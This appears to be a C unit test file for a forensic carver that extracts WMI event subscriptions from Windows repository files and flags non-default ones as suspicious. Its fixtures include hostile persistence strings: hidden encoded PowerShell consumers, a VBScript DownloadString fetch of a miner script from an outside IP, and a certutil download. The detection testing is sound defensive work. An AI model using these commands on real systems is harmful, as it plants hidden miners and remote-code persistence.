/* test_wmi.c - unit tests of collect/win/wmi.c: repositories written at test time by
 * tests/windows/mkwmirepo.py (run with fork/exec into a private directory): a
 * WannaMine-like subscription, a VBScript consumer, the default SCM and BVT ones, old
 * copies in a freed page, a class definition, damaged and cut records, junk; a
 * BVTConsumer look-alike running PowerShell; and hand-made buffers cut at every length */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "collect/win/wmi.h"
#include "t.h"

static char dir[64];

typedef struct obj {
	int kind;
	char *cls, *name, *a, *b, *c;
	uint64_t offset;
	int benign;
} obj;

typedef struct objs {
	obj o[64];
	size_t n;
	size_t stop_after;
	size_t len;
} objs;

static char *sdup(const char *s)
{
	return s ? strdup(s) : NULL;
}

static int on_obj(void *ctx, const mt_wmi_obj *o)
{
	objs *v = ctx;
	ASSERT_TRUE(o->class_name && o->name && o->a && o->b && o->c);
	ASSERT_TRUE(o->offset < v->len);
	if (v->n < MT_ARRAY_LEN(v->o)) {
		obj *d = &v->o[v->n];
		d->kind = o->kind;
		d->cls = sdup(o->class_name);
		d->name = sdup(o->name);
		d->a = sdup(o->a);
		d->b = sdup(o->b);
		d->c = sdup(o->c);
		d->offset = o->offset;
		d->benign = mt_wmi_known_benign(o);
		if (getenv("T_VERBOSE"))
			fprintf(stderr, "  %d %s [%s] a=[%.80s] b=[%.60s] c=[%.60s] @%llu%s\n",
			        d->kind, d->cls, d->name, d->a, d->b, d->c,
			        (unsigned long long)d->offset, d->benign ? " benign" : "");
	}
	v->n++;
	return v->stop_after && v->n >= v->stop_after;
}

static void objs_free(objs *v)
{
	for (size_t i = 0; i < v->n && i < MT_ARRAY_LEN(v->o); i++) {
		free(v->o[i].cls);
		free(v->o[i].name);
		free(v->o[i].a);
		free(v->o[i].b);
		free(v->o[i].c);
	}
	v->n = 0;
}

/* The object of kind and name (and class when not NULL); NULL when absent. */
static const obj *find(const objs *v, int kind, const char *cls, const char *name, size_t nth)
{
	for (size_t i = 0; i < v->n && i < MT_ARRAY_LEN(v->o); i++)
		if (v->o[i].kind == kind && strcmp(v->o[i].name, name) == 0 &&
		    (!cls || strcmp(v->o[i].cls, cls) == 0) && nth-- == 0)
			return &v->o[i];
	return NULL;
}

static size_t count(const objs *v, int kind)
{
	size_t n = 0;
	for (size_t i = 0; i < v->n && i < MT_ARRAY_LEN(v->o); i++)
		n += v->o[i].kind == kind;
	return n;
}

/* Runs argv; 0 when it exits 0. */
static int run(char *const argv[])
{
	pid_t pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		execvp(argv[0], argv);
		_exit(127);
	}
	int st;
	if (waitpid(pid, &st, 0) < 0)
		return -1;
	return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
}

static uint8_t *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	uint8_t *buf = malloc(1 << 20);
	size_t n = buf ? fread(buf, 1, 1 << 20, f) : 0;
	fclose(f);
	*len = n;
	return buf;
}

/* Writes a repository of the scenario with mkwmirepo.py and reads it back. */
static uint8_t *gen(const char *scenario, int xp, size_t *len)
{
	char out[128];
	snprintf(out, sizeof(out), "%s/%s%s.DATA", dir, scenario, xp ? "-xp" : "");
	char *argv[] = {"python3", "tests/windows/mkwmirepo.py", "--scenario", (char *)scenario,
	                out,       xp ? "--xp" : NULL,           NULL};
	if (run(argv) != 0)
		return NULL;
	uint8_t *d = slurp(out, len);
	unlink(out);
	return d;
}

static void test_main_repo(int xp)
{
	objs v = {0};
	size_t len;
	uint8_t *d = gen("main", xp, &len);
	TEST_START(xp ? "XP repository (MD5 hashes)" : "Windows 10 repository (SHA-256 hashes)");
	REQUIRE_NOT_NULL(d);
	ASSERT_SIZE_EQ(len, 8 * 8192);
	v.len = len;
	size_t n = mt_wmi_carve(d, len, on_obj, &v);
	ASSERT_SIZE_EQ(n, v.n);
	ASSERT_SIZE_EQ(n, 15);
	ASSERT_SIZE_EQ(count(&v, MT_WMI_FILTER), 4);
	ASSERT_SIZE_EQ(count(&v, MT_WMI_CMDLINE), 4);
	ASSERT_SIZE_EQ(count(&v, MT_WMI_SCRIPT), 1);
	ASSERT_SIZE_EQ(count(&v, MT_WMI_OTHER), 2);
	ASSERT_SIZE_EQ(count(&v, MT_WMI_BINDING), 4);

	/* WannaMine: the filter on the performance counters, the encoded PowerShell */
	const obj *o = find(&v, MT_WMI_FILTER, "__EventFilter", "DSM Event Log Filter", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->a, "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
	                    "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'");
	ASSERT_STR_EQ(o->b, "WQL");
	ASSERT_STR_EQ(o->c, "root\\cimv2");
	ASSERT_INT_EQ(o->benign, 0);
	o = find(&v, MT_WMI_CMDLINE, "CommandLineEventConsumer", "DSM Event Log Consumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_CONTAINS(o->a, "powershell.exe -NoP -NonI -W Hidden -E JABtAG8AbgA9ACgA");
	ASSERT_STR_EQ(o->b, "");
	ASSERT_STR_EQ(o->c, "");
	ASSERT_INT_EQ(o->benign, 0);
	/* the copy in the freed page is the same object; the older version is another */
	const obj *old = find(&v, MT_WMI_CMDLINE, NULL, "DSM Event Log Consumer", 1);
	REQUIRE_NOT_NULL(old);
	ASSERT_STR_NE(old->a, o->a);
	ASSERT_STR_CONTAINS(old->a, "powershell.exe -NoP -NonI -W Hidden -E aQBlAHgA");
	ASSERT_TRUE(old->offset > o->offset);
	ASSERT_NULL(find(&v, MT_WMI_CMDLINE, NULL, "DSM Event Log Consumer", 2));
	o = find(&v, MT_WMI_BINDING, NULL, "", 0);
	int seen_wm = 0, seen_vbs = 0, benign_bindings = 0;
	for (size_t i = 0; i < 4; i++) {
		o = find(&v, MT_WMI_BINDING, "__FilterToConsumerBinding", "", i);
		REQUIRE_NOT_NULL(o);
		benign_bindings += o->benign;
		if (strcmp(o->a, "__EventFilter.Name=\"DSM Event Log Filter\"") == 0) {
			seen_wm++;
			ASSERT_STR_EQ(o->b,
			              "CommandLineEventConsumer.Name=\"DSM Event Log Consumer\"");
			ASSERT_INT_EQ(o->benign, 0);
		}
		if (strstr(o->b, "PerfMonScript")) {
			seen_vbs++;
			ASSERT_STR_EQ(
				o->a,
				"\\\\.\\root\\subscription:__EventFilter.Name=\"PerfMonFilter\"");
			ASSERT_STR_EQ(o->b,
			              "\\\\.\\root\\subscription:ActiveScriptEventConsumer.Name="
			              "\"PerfMonScript\"");
			ASSERT_INT_EQ(o->benign, 0);
		}
	}
	ASSERT_INT_EQ(seen_wm, 1);
	ASSERT_INT_EQ(seen_vbs, 1);
	ASSERT_INT_EQ(benign_bindings, 2);

	/* the VBScript consumer; its text has Chinese in it, so it is a UTF-16 string */
	o = find(&v, MT_WMI_SCRIPT, "ActiveScriptEventConsumer", "PerfMonScript", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->b, "VBScript");
	ASSERT_STR_CONTAINS(o->a, "' 系统性能监视\r\nSet s = CreateObject(\"WScript.Shell\")");
	ASSERT_STR_CONTAINS(o->a, "DownloadString('http://45.32.10.7/xmr.ps1')");
	ASSERT_STR_EQ(o->c, "");
	ASSERT_INT_EQ(o->benign, 0);
	o = find(&v, MT_WMI_FILTER, NULL, "PerfMonFilter", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_CONTAINS(o->a, "'Win32_LogonSession'");
	ASSERT_INT_EQ(o->benign, 0);

	/* the defaults of Windows */
	o = find(&v, MT_WMI_FILTER, NULL, "SCM Event Log Filter", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->a, "select * from MSFT_SCMEventLogEvent");
	ASSERT_INT_EQ(o->benign, 1);
	o = find(&v, MT_WMI_OTHER, "NTEventLogEventConsumer", "SCM Event Log Consumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->a, "Service Control Manager");
	ASSERT_INT_EQ(o->benign, 1);
	o = find(&v, MT_WMI_FILTER, NULL, "BVTFilter", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_INT_EQ(o->benign, 1);
	o = find(&v, MT_WMI_CMDLINE, NULL, "BVTConsumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->a, "cscript KernCap.vbs");
	ASSERT_STR_EQ(o->c, "C:\\tools\\kernrate");
	ASSERT_INT_EQ(o->benign, 1);

	/* a record whose header was overwritten still gives its heap */
	o = find(&v, MT_WMI_OTHER, "LogFileEventConsumer", "LogIt", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_EQ(o->a, "C:\\Windows\\Temp\\wmi.log");
	ASSERT_STR_EQ(o->b, "%TargetInstance%");
	ASSERT_INT_EQ(o->benign, 0);
	/* a record cut by the end of the file: the start of its command, no name */
	o = find(&v, MT_WMI_CMDLINE, NULL, "", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_CONTAINS(o->a, "cmd.exe /c AAAA");
	ASSERT_TRUE(strlen(o->a) < 1200);
	/* never a class definition, never a class name without a heap in front */
	for (size_t i = 0; i < v.n && i < MT_ARRAY_LEN(v.o); i++) {
		ASSERT_STR_NE(v.o[i].name, "Loose");
		ASSERT_STR_NE(v.o[i].a, "calc.exe");
		ASSERT_STR_NE(v.o[i].name, "CommandLineTemplate");
		ASSERT_STR_NE(v.o[i].a, "CommandLineTemplate");
		ASSERT_STR_NE(v.o[i].name, "string");
		ASSERT_STR_NE(v.o[i].a, "string");
	}
	objs_free(&v);

	/* the callback stops the walk */
	v.stop_after = 3;
	ASSERT_SIZE_EQ(mt_wmi_carve(d, len, on_obj, &v), 3);
	ASSERT_SIZE_EQ(v.n, 3);
	objs_free(&v);
	v.stop_after = 0;

	/* every cut of the file: no read past it, never more objects */
	for (size_t cut = 0; cut <= len; cut += cut < 200 ? 1 : 61) {
		uint8_t *part = malloc(cut ? cut : 1);
		REQUIRE_NOT_NULL(part);
		memcpy(part, d, cut);
		v.len = cut ? cut : 1;
		n = mt_wmi_carve(part, cut, on_obj, &v);
		ASSERT_TRUE(n <= 15);
		objs_free(&v);
		free(part);
	}
	free(d);
	TEST_DONE();
}

static void test_lookalike(int xp)
{
	objs v = {0};
	size_t len;
	uint8_t *d = gen("evilbvt", xp, &len);
	TEST_START("a BVTConsumer running PowerShell is not the default one");
	REQUIRE_NOT_NULL(d);
	v.len = len;
	ASSERT_SIZE_EQ(mt_wmi_carve(d, len, on_obj, &v), 5);
	const obj *o = find(&v, MT_WMI_CMDLINE, NULL, "BVTConsumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_CONTAINS(o->a, "powershell -nop -w hidden -enc");
	ASSERT_STR_EQ(o->c, "C:\\tools\\kernrate");
	ASSERT_INT_EQ(o->benign, 0);
	o = find(&v, MT_WMI_FILTER, NULL, "BVTFilter", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_INT_EQ(o->benign, 1);
	o = find(&v, MT_WMI_CMDLINE, NULL, "SCM Event Log Consumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_STR_CONTAINS(o->a, "certutil -urlcache");
	ASSERT_INT_EQ(o->benign, 0);
	o = find(&v, MT_WMI_OTHER, "NTEventLogEventConsumer", "SCM Event Log Consumer", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_INT_EQ(o->benign, 1);
	/* a binding is judged by the names it joins only: the check looks at the consumer */
	o = find(&v, MT_WMI_BINDING, NULL, "", 0);
	REQUIRE_NOT_NULL(o);
	ASSERT_INT_EQ(o->benign, 1);
	objs_free(&v);
	free(d);
	TEST_DONE();
}

/* A hand-made instance heap behind its size: "\0" class "\0" then strings. */
static size_t mk_heap(uint8_t *out, const char *cls, const char *const *strs, size_t n)
{
	size_t o = 4;
	out[o++] = 0;
	memcpy(out + o, cls, strlen(cls) + 1);
	o += strlen(cls) + 1;
	for (size_t i = 0; i < n; i++) {
		out[o++] = 0;
		memcpy(out + o, strs[i], strlen(strs[i]) + 1);
		o += strlen(strs[i]) + 1;
	}
	uint32_t sz = (uint32_t)(o - 4) | 0x80000000u;
	out[0] = (uint8_t)sz;
	out[1] = (uint8_t)(sz >> 8);
	out[2] = (uint8_t)(sz >> 16);
	out[3] = (uint8_t)(sz >> 24);
	return o;
}

static void test_buffers(void)
{
	objs v = {0};
	uint8_t buf[1024];

	TEST_START("hand-made heaps without headers, cut at every length");
	static const char *const s1[] = {
		"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
		" -e JABzAD0A",
		"Updater"};
	size_t n = mk_heap(buf, "CommandLineEventConsumer", s1, 2);
	v.len = n;
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 1);
	REQUIRE_INT_EQ(v.n, 1);
	ASSERT_STR_EQ(v.o[0].name, "Updater");
	ASSERT_STR_CONTAINS(v.o[0].a, "powershell.exe -e JABzAD0A");
	ASSERT_U64_EQ(v.o[0].offset, 0);
	objs_free(&v);
	for (size_t cut = 0; cut <= n; cut++) {
		uint8_t *part = malloc(cut ? cut : 1);
		REQUIRE_NOT_NULL(part);
		memcpy(part, buf, cut);
		v.len = cut ? cut : 1;
		ASSERT_TRUE(mt_wmi_carve(part, cut, on_obj, &v) <= 1);
		objs_free(&v);
		free(part);
	}
	/* another consumer: the name is the string that is no path and no template */
	static const char *const s5[] = {"Mined on %TargetInstance.Name%", "Mailer",
	                                 "smtp.example.net", "report", "ops@example.net"};
	n = mk_heap(buf, "SMTPEventConsumer", s5, 5);
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 1);
	REQUIRE_INT_EQ(v.n, 1);
	ASSERT_INT_EQ(v.o[0].kind, MT_WMI_OTHER);
	ASSERT_STR_EQ(v.o[0].cls, "SMTPEventConsumer");
	ASSERT_STR_EQ(v.o[0].name, "Mailer");
	ASSERT_STR_EQ(v.o[0].a, "Mined on %TargetInstance.Name%");
	ASSERT_STR_EQ(v.o[0].b, "smtp.example.net");
	ASSERT_STR_EQ(v.o[0].c, "report");
	ASSERT_INT_EQ(v.o[0].benign, 0);
	objs_free(&v);
	/* the heap of a class definition: property names */
	static const char *const s2[] = {"CommandLineTemplate", "string", "Name", "string"};
	n = mk_heap(buf, "CommandLineEventConsumer", s2, 4);
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 0);
	/* a heap size without its top bit */
	n = mk_heap(buf, "CommandLineEventConsumer", s1, 2);
	buf[3] = 0;
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 0);
	/* a binding needs its references */
	static const char *const s3[] = {"hello", "world"};
	n = mk_heap(buf, "__FilterToConsumerBinding", s3, 2);
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 0);
	/* control characters are not text */
	static const char *const s4[] = {"a\001b"};
	n = mk_heap(buf, "__EventFilter", s4, 1);
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, n, on_obj, &v), 0);
	ASSERT_SIZE_EQ(mt_wmi_carve(NULL, 10, on_obj, &v), 0);
	ASSERT_SIZE_EQ(mt_wmi_carve(buf, 0, on_obj, &v), 0);
	objs_free(&v);
	TEST_DONE();

	TEST_START("floods of fake heaps take linear time");
	size_t fl = 4u << 20;
	uint8_t *flood = malloc(fl);
	REQUIRE_NOT_NULL(flood);
	static const char mark[] = "\x00\x10\x00\x80\x00CommandLineEventConsumer";
	for (size_t i = 0; i + 256 <= fl; i += 256) { /* headerless heaps of 1 MiB each */
		memset(flood + i, 1, 256);
		memcpy(flood + i, mark, sizeof(mark)); /* with its NUL: the marker's end */
	}
	clock_t t0 = clock();
	ASSERT_SIZE_EQ(mt_wmi_carve(flood, fl, on_obj, &v), 0);
	memset(flood, 1, fl); /* one heap of UTF-16 flag bytes */
	memcpy(flood, mark, sizeof(mark));
	flood[1] = flood[2] = 0xff;
	ASSERT_SIZE_EQ(mt_wmi_carve(flood, fl, on_obj, &v), 0);
	ASSERT_TRUE((double)(clock() - t0) / CLOCKS_PER_SEC < 60);
	free(flood);
	TEST_DONE();

	TEST_START("random bytes give nothing");
	uint8_t *rnd = malloc(1 << 16);
	REQUIRE_NOT_NULL(rnd);
	uint32_t seed = 99;
	for (size_t i = 0; i < (1 << 16); i++) {
		seed = seed * 1103515245u + 12345u;
		rnd[i] = (uint8_t)(seed >> 16);
	}
	ASSERT_SIZE_EQ(mt_wmi_carve(rnd, 1 << 16, on_obj, &v), 0);
	free(rnd);
	TEST_DONE();

	TEST_START("known benign needs the name and the content");
	mt_wmi_obj f = {MT_WMI_FILTER,
	                "__EventFilter",
	                "BVTFilter",
	                "select *  from __InstanceModificationEvent within 60 where TargetInstance "
	                "ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99",
	                "WQL",
	                "root\\cimv2",
	                0};
	ASSERT_INT_EQ(mt_wmi_known_benign(&f), 1);
	f.a = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
	      "'Win32_PerfFormattedData_PerfOS_System'";
	ASSERT_INT_EQ(mt_wmi_known_benign(&f), 0);
	mt_wmi_obj c = {MT_WMI_CMDLINE,
	                "CommandLineEventConsumer",
	                "BVTConsumer",
	                "cscript KernCap.vbs",
	                "",
	                "C:\\tools\\kernrate",
	                0};
	ASSERT_INT_EQ(mt_wmi_known_benign(&c), 1);
	c.a = "cscript KernCap.vbs & powershell -enc AAAA";
	ASSERT_INT_EQ(mt_wmi_known_benign(&c), 0);
	c.a = "cscript KernCap.vbs";
	c.c = "C:\\Users\\Public";
	ASSERT_INT_EQ(mt_wmi_known_benign(&c), 0);
	c.c = "";
	c.name = "BVTConsumer2";
	ASSERT_INT_EQ(mt_wmi_known_benign(&c), 0);
	mt_wmi_obj s = {
		MT_WMI_SCRIPT, "ActiveScriptEventConsumer", "BVTConsumer", "x", "VBScript", "", 0};
	ASSERT_INT_EQ(mt_wmi_known_benign(&s), 0);
	mt_wmi_obj b = {MT_WMI_BINDING,
	                "__FilterToConsumerBinding",
	                "",
	                "\\\\.\\root\\subscription:__EventFilter.Name=\"SCM Event Log Filter\"",
	                "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"",
	                "",
	                0};
	ASSERT_INT_EQ(mt_wmi_known_benign(&b), 1);
	b.b = "CommandLineEventConsumer.Name=\"SCM Event Log Consumer\"";
	ASSERT_INT_EQ(mt_wmi_known_benign(&b), 0);
	b.b = "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"x";
	ASSERT_INT_EQ(mt_wmi_known_benign(&b), 0);
	ASSERT_INT_EQ(mt_wmi_known_benign(NULL), 0);
	TEST_DONE();
}

/* Removes the private directory, also after a failed REQUIRE (exit). */
static void cleanup(void)
{
	static const char *const names[] = {"main", "main-xp", "evilbvt", "evilbvt-xp"};
	char p[128];
	for (size_t i = 0; i < MT_ARRAY_LEN(names); i++) {
		snprintf(p, sizeof(p), "%s/%s.DATA", dir, names[i]);
		unlink(p);
	}
	rmdir(dir);
}

int main(void)
{
	const char *tmp = getenv("TMPDIR");
	snprintf(dir, sizeof(dir), "%s/mt-wmi-XXXXXX",
	         tmp && *tmp && strlen(tmp) < 40 ? tmp : "/tmp");
	REQUIRE_NOT_NULL(mkdtemp(dir));
	atexit(cleanup);
	test_main_repo(0);
	test_main_repo(1);
	test_lookalike(0);
	test_lookalike(1);
	test_buffers();
	return T_DONE();
}
